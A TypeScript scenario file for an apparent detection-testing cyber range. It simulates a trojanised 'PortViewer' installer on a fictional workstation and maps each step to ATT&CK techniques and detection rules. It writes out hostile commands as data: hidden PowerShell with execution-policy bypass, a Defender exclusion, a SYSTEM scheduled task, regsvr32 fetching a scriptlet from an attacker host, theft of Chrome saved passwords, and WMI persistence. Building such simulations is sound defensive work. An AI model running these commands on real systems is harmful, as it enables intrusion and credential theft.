import { workstationOf } from '#engine/range/company.ts';
import { attacker, cmd, in32, powershell } from '#engine/range/programs.ts';
import type { Story } from '#engine/range/story.ts';
import { systemUser } from '#engine/range/windows.ts';

const host = workstationOf('r.lindqvist');
const setup = 'C:\\Users\\r.lindqvist\\Downloads\\PortViewer-Setup.exe';
const update = 'C:\\ProgramData\\PortViewer\\pvupdate.exe';

export const supplyChainInstaller: Story = {
  title: 'The installer of a useful tool brought something along, and stays.',
  truth: 'intrusion',
  why: 'The vendor of PortViewer reported that its installer was changed; ours is that one, and it calls home.',
  steps: [
    {
      minute: 0,
      technique: 'T1195.002',
      what: 'The installer starts PowerShell, hidden.',
      rules: ['installer-starts-hidden-powershell'],
      play: (scene) =>
        scene.run(host, {
          image: powershell,
          command:
            'powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\ProgramData\\PortViewer\\post.ps1',
          parent: setup,
        }),
    },
    {
      minute: 1,
      technique: 'T1562.001',
      what: 'Excludes its folder from Defender.',
      rules: ['defender-weakened'],
      play: (scene) =>
        scene.run(host, {
          image: powershell,
          command: 'powershell.exe Add-MpPreference -ExclusionPath C:\\ProgramData\\PortViewer',
          parent: setup,
          user: systemUser,
        }),
    },
    {
      minute: 2,
      technique: 'T1053.005',
      what: 'A task starts it every hour, as SYSTEM.',
      rules: ['scheduled-task-made-by-command'],
      play: (scene) =>
        scene.run(host, {
          image: in32('schtasks.exe'),
          command: `schtasks /create /tn "PortViewer Update" /tr ${update} /sc hourly /ru SYSTEM /f`,
          parent: cmd,
          user: systemUser,
        }),
    },
    {
      minute: 64,
      technique: 'T1218.010',
      what: 'Loads a part from the internet by regsvr32.',
      rules: ['regsvr32-loads-from-the-internet', 'windows-tool-connects-to-the-internet'],
      play: (scene) => {
        scene.run(host, {
          image: in32('regsvr32.exe'),
          command: `regsvr32 /s /u /i:https://${attacker}/u.sct scrobj.dll`,
          parent: update,
          user: systemUser,
        });
        scene.sysmon(
          host,
          3,
          in32('regsvr32.exe'),
          { Protocol: 'tcp', Initiated: 'true', SourceIp: host.ip, DestinationIp: attacker, DestinationPort: '443' },
          systemUser,
        );
      },
    },
    {
      minute: 90,
      technique: 'T1555.003',
      what: 'Collects the passwords that the browser keeps.',
      rules: ['browser-passwords-collected-by-script'],
      play: (scene) =>
        scene.script(
          host,
          "$d=[Security.Cryptography.ProtectedData]::Unprotect($k,$null,0); Copy-Item $env:LOCALAPPDATA'\\Google\\Chrome\\User Data\\Default\\Login Data' $t",
        ),
    },
    {
      minute: 97,
      technique: 'T1546.003',
      what: 'Stays a second time, by WMI.',
      rules: ['wmi-runs-program-on-event'],
      play: (scene) =>
        scene.event(host, 'sysmon', 20, {
          RuleName: '-',
          EventType: 'WmiConsumerEvent',
          UtcTime: '2026-01-01 00:00:00.000',
          Operation: 'Created',
          User: systemUser,
          Name: '"PVC"',
          Type: 'Command Line',
          Destination: `"${update} /q"`,
        }),
    },
  ],
};
